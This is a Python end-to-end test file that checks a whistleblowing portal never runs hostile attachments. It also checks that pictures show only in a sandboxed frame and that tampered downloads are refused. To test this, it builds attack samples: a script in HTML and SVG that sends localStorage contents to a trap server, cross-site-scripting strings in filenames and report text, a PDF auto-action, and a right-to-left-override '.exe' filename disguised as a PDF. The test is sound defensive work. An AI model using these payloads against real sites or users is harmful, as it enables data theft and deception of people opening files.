"""Hostile files, from a reporter and from a colleague: they can be kept, and they never run beside a key."""

from __future__ import annotations

import struct
import time
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Download, Frame, Locator, Page, expect

from portal.cli.reporter.reporting import ReportRequest
from tests.journeys.colleague import colleague, file_report
from tests.journeys.demo import Demo
from tests.journeys.investigator import Investigator
from tests.journeys.reporter import PATIENCE, SEALING, Reporter
from tests.journeys.witness import Witness, assert_nothing_left, watch
from tests.support.attacks.tampering_proxy import LyingProxy, lying_proxy
from tests.support.browsers.launch import KINDS

pytestmark = pytest.mark.timeout(1800)

WORDS = "Hostile files are attached <img src=x onerror=\"localStorage.setItem('pwned',1)\">"
MEMBERS = {"chromium": "investigator-a", "firefox": "registrar-a"}
REFUSED = "Something in the answer was altered or damaged. It is not shown, and nothing was sent."
# Looks like `billexe.pdf` where its mark turns the line.
TURNED, SHOWN, SAVED = "bill\u202efdp.exe", "bill‹U+202E›fdp.exe", "bill_fdp.exe"
PARTS = {"desk": "/parts/", "intake": "/api/blob"}
# The tab seals what it shows each time that it changes.
REACHED = """() => ({
  store: JSON.stringify([{...localStorage}, {...sessionStorage, "yanlu.desk.place": ""}]),
  pwned: [window.pwned, document.title.includes("pwned"), document.cookie],
})"""
IN_FRAME = """async () => {
  const tried = async (work) => { try { await work(); return "reached"; } catch { return "refused"; } };
  const pixel = document.querySelector("canvas").getContext("2d").getImageData(0, 0, 1, 1).data;
  return {
    pixel: [...pixel], origin: self.origin, elements: document.body.children.length,
    parent: await tried(() => parent.document.title),
    storage: await tried(() => localStorage.length),
    network: await tried(() => fetch("/api/me")),
  };
}"""


def _png() -> bytes:
    """Two by two pixels of pure red."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    rows = zlib.compress(b"".join(b"\0" + b"\xff\0\0" * 2 for _ in range(2)))
    head = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _hostile(trap: str) -> dict[str, bytes]:
    """Files by name; whichever of them runs calls the trap and marks what it reaches."""
    script = (
        f"localStorage.setItem('pwned','1'); document.title='pwned'; top.pwned=1; opener&&(opener.pwned=1);"
        f"fetch('{trap}/stolen?'+encodeURIComponent(JSON.stringify(localStorage)));"
    )
    page = f"<!doctype html><img src='{trap}/seen'><body onload=\"{script}\"><script>{script}</script>".encode()
    drawing = (
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{script}\"><script>{script}</script>"
        f"<image href='{trap}/seen'/></svg>"
    )
    action = f"<</Type/Action/S/URI/URI({trap}/seen)>>"
    document = (
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction "
        f"{action}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )
    return {
        "page.html": page,
        "drawing.svg": drawing.encode(),
        "document.pdf": document.encode(),
        "picture.png": _png(),
        "liar.png": page,
        "<img src=x onerror=top.pwned=1>.html": page,
        TURNED: page,
    }


@dataclass
class Sent:
    """The files that went both ways, the reporter's receipt, and the server that nothing may call."""

    files: dict[str, bytes]
    receipt: str
    trap: LyingProxy


@pytest.fixture(scope="module")
def sent(demo: Demo, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sent]:
    """A report with hostile files, and an answer with the same ones, both made by the twin."""
    folder, scratch = tmp_path_factory.mktemp("hostile"), tmp_path_factory.mktemp("sealed")
    with lying_proxy(demo.intake) as trap, pytest.MonkeyPatch.context() as hostile:
        files = _hostile(trap.url)
        for name, content in files.items():
            (folder / name).write_bytes(content)
        paths = [folder / name for name in files]
        # Their own programs send names as they are.
        hostile.setattr("crypto.sealing.attachments.clean_file_name", str)
        receipt = file_report(
            demo, ReportRequest("group", "company-whistleblowing", "other", WORDS, "en", paths), scratch
        )
        with colleague(demo, "approver-a") as handler:
            handler.reply(handler.find(WORDS, scratch / "profile"), "Files from the office.", paths, scratch)
        yield Sent(files, receipt, trap)


@dataclass
class Watched:
    """A page behind a proxy, and everything that it opened, went to, or kept."""

    kind: str
    page: Page
    proxy: LyingProxy
    witness: Witness
    opened: list[str]
    kept: list[Download]
    # Where Firefox puts what is saved; it tells its driver nothing.
    folder: Path

    def saved(self) -> set[Path]:
        """The files that Firefox has put there, finished ones only."""
        return {path for path in self.folder.iterdir() if path.suffix != ".part" and _size(path) > 0}

    def only_stayed(self, address: str, trap: LyingProxy) -> None:
        """No other page but a kept file in the browser's own viewer, no other origin, and the trap was never called."""
        others = [page.url for page in self.page.context.pages if page is not self.page]
        # Firefox shows a PDF from the downloads folder by itself; that is not the origin where keys are.
        assert [url for url in others if not (url.startswith("file:") and url.endswith(".pdf"))] == []
        assert self.page.url == address
        assert not [one for one in self.opened if one.startswith(("blob:", "data:"))]
        assert self.witness.origins == {self.proxy.url}
        assert trap.seen == []


def _size(path: Path) -> int:
    """In bytes; 0 where Firefox has given the file its last name since the folder was listed."""
    try:
        return path.stat().st_size
    except FileNotFoundError:
        return 0


@pytest.fixture(params=KINDS)
def kind(request: pytest.FixtureRequest) -> str:
    """Each of the two browsers."""
    return request.param


@pytest.fixture(params=["desk"])
def face(request: pytest.FixtureRequest) -> str:
    """Which face the page belongs to."""
    return request.param


@pytest.fixture
def watched(
    request: pytest.FixtureRequest, kind: str, face: str, demo: Demo, firefox_downloads: Path
) -> Iterator[Watched]:
    """A fresh page of that browser behind a proxy of that face."""
    browser: Browser = request.getfixturevalue(kind)
    target = {"desk": demo.desk.replace("localhost", "127.0.0.1"), "intake": demo.intake}[face]
    with lying_proxy(target) as proxy, browser.new_context(accept_downloads=True) as context:
        opened: list[str] = []
        kept: list[Download] = []
        witness = watch(context)
        page = context.new_page()
        page.on("framenavigated", lambda frame: opened.append(frame.url))

        def keep(download: Download) -> None:
            kept.append(download)

        page.on("download", keep)
        yield Watched(kind, page, proxy, witness, opened, kept, firefox_downloads)


def _keep(watched: Watched, button: Locator, said: Locator, words: str, content: bytes, folder: Path) -> None:
    """Press, wait for the words, and compare what lies on the disk."""
    if watched.kind == "chromium":
        with watched.page.expect_download(timeout=SEALING) as download:
            button.click()
        path = folder / "kept"
        download.value.save_as(path)
        assert path.read_bytes() == content
    else:
        before = watched.saved()
        button.click()
        _fell(watched, before, content)
    expect(said).to_contain_text(words, timeout=SEALING)


def _fell(watched: Watched, before: set[Path], content: bytes) -> None:
    """Wait until one more file lies in the folder, and nothing but this content is in it."""
    until = time.monotonic() + SEALING / 1000
    while not (new := watched.saved() - before):
        assert time.monotonic() < until, "nothing was saved"
        watched.page.wait_for_timeout(50)
    assert [path.read_bytes() for path in new] == [content]


def _under_a_name_that_shows(watched: Watched) -> None:
    """The program came last; its name turns nothing, on the page or in the folder."""
    names = [one.suggested_filename for one in watched.kept] + [path.name for path in watched.saved()]
    assert SAVED in names
    assert "\u202e" not in watched.page.locator("body").inner_text()


def _tampered(watched: Watched, face: str) -> None:
    """From now on every part of a file comes with its last byte turned."""

    def turn(path: str, status: int, body: bytes) -> tuple[int, bytes]:
        here = PARTS[face] in path if face == "desk" else path == PARTS[face]
        return (status, body[:-1] + bytes([body[-1] ^ 1])) if here and body else (status, body)

    watched.proxy.alter = turn


def _row(page: Page, name: str) -> Locator:
    exact = page.locator("bdi.file-name").get_by_text(SHOWN if name == TURNED else name, exact=True)
    return page.locator('[data-test="attachment"]').filter(has=exact).first


def _frame(page: Page) -> Frame:
    return next(frame for frame in page.frames if frame.url.endswith("/frame/"))


def test_at_the_desk_files_are_kept_or_drawn_and_never_run(
    demo: Demo, sent: Sent, watched: Watched, kind: str, tmp_path: Path
) -> None:
    """Files are saved as sent, pictures are pixels in a frame without reach, and a turned byte keeps all back."""
    page = watched.page
    member = Investigator(page, demo, demo.staff[MEMBERS[kind]], "en", url=watched.proxy.url)
    member.sign_in()
    member.open("Hostile files are attached")
    address, before = page.url, page.evaluate(REACHED)
    _pictures(page)
    for name, content in sent.files.items():
        row = _row(page, name)
        _keep(watched, row.locator('[data-test="save-file"]'), row.locator(".file-state"), "saved", content, tmp_path)
    assert page.evaluate(REACHED) == before
    watched.only_stayed(address, sent.trap)
    _under_a_name_that_shows(watched)
    _tampered(watched, "desk")
    count = len(watched.kept), watched.saved()
    for name in sent.files:
        row = _row(page, name)
        row.locator('[data-test="save-file"]').click()
        expect(row.locator(".file-state")).to_contain_text("not saved", timeout=PATIENCE)
    assert (len(watched.kept), watched.saved()) == count
    watched.only_stayed(address, sent.trap)


def _pictures(page: Page) -> None:
    """Only what calls itself pixels can be shown; what is none is not drawn."""
    for name in ("page.html", "drawing.svg", "document.pdf"):
        expect(_row(page, name).locator('[data-test="show-picture"]')).to_have_count(0)
    row = _row(page, "picture.png")
    row.locator('[data-test="show-picture"]').click()
    expect(row.locator(".file-state")).to_contain_text("Verified", timeout=PATIENCE)
    expect(row.locator("iframe")).to_have_attribute("sandbox", "allow-scripts")
    assert _frame(page).evaluate(IN_FRAME) == {
        "pixel": [255, 0, 0, 255],
        "origin": "null",
        "elements": 1,
        "parent": "refused",
        "storage": "refused",
        "network": "refused",
    }
    liar = _row(page, "liar.png")
    liar.locator('[data-test="show-picture"]').click()
    expect(liar.locator(".file-state")).to_contain_text("cannot be drawn", timeout=PATIENCE)
    expect(liar.locator("iframe")).to_have_count(0)


@pytest.mark.parametrize("face", ["intake"], indirect=True)
def test_files_of_an_answer_are_kept_by_the_reporter_and_never_run(
    demo: Demo, sent: Sent, watched: Watched, tmp_path: Path
) -> None:
    """The reporter keeps each file as sent, nothing runs or stays in the browser, and a turned byte keeps all back."""
    page = watched.page
    reporter = Reporter(page, watched.proxy.url, demo.code, "en")
    reporter.come_back(sent.receipt)
    address = page.url
    rows = page.locator("li").filter(has=page.locator('[data-test="attachment-get"]'))
    found = [row for row in rows.all() if row.locator("li").count() == 0]
    assert len(found) == len(sent.files)
    for row, content in zip(found, sent.files.values(), strict=True):
        said = row.locator('[role="status"]')
        _keep(watched, row.locator('[data-test="attachment-get"]'), said, "Kept in your downloads", content, tmp_path)
    watched.only_stayed(address, sent.trap)
    _under_a_name_that_shows(watched)
    expect(page.get_by_role("button", name=f"Get \u2068{SHOWN}\u2069")).to_be_visible()
    assert_nothing_left(page, page.context)
    _tampered(watched, "intake")
    count = len(watched.kept), watched.saved()
    for row in found:
        row.locator('[data-test="attachment-get"]').click()
        expect(row.locator('[role="status"]')).to_have_text(REFUSED, timeout=PATIENCE)
    assert (len(watched.kept), watched.saved()) == count
    watched.only_stayed(address, sent.trap)
